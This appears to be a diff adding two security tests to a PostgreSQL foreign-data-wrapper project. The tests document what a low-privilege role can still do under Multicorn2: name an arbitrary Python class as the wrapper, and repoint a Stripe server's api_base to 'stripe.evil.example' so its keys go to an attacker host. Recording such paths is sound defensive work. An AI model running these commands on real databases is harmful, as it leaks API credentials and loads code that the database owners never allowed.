@@ -196,3 +196,36 @@ def test_a_restored_dump_keeps_privileges_and_safe_functions(restored: str, clus
             ("['search_path=pg_catalog, pg_temp']", False)
         }
         assert count(connection, "select count(*) from stripe_live.customer") > 0
+
+
+# What stays possible under Multicorn2, as SECURITY.md says.
+
+
+def test_under_multicorn2_a_role_with_usage_names_any_class_of_python(
+    db: psycopg.Connection, mallory: Acting, server: Server, host: str
+) -> None:
+    if host == "bundled":
+        pytest.skip("the bundled host has no option that names a class")
+    db.execute(f"grant usage on foreign server {server.name} to mallory".encode())
+    with mallory():
+        db.execute(f"create foreign table pg_temp.mine (id text) server {server.name}".encode())
+        db.execute(
+            f"create user mapping for mallory server {server.name} options (wrapper 'fractions.Fraction')".encode()
+        )
+        assert "Fraction" in said(failing(db, "select * from pg_temp.mine"))
+        db.execute("drop foreign table pg_temp.mine")
+
+
+def test_under_multicorn2_a_servers_owner_sends_its_keys_anywhere(
+    db: psycopg.Connection, mallory: Acting, server: Server, host: str
+) -> None:
+    if host == "bundled":
+        pytest.skip("the bundled host refuses it")
+    db.execute(f"alter server {server.name} owner to mallory".encode())
+    try:
+        with mallory():
+            db.execute(
+                f"alter server {server.name} options (set api_base 'https://stripe.evil.example')".encode()
+            )
+    finally:
+        db.execute(f"alter server {server.name} owner to postgres".encode())
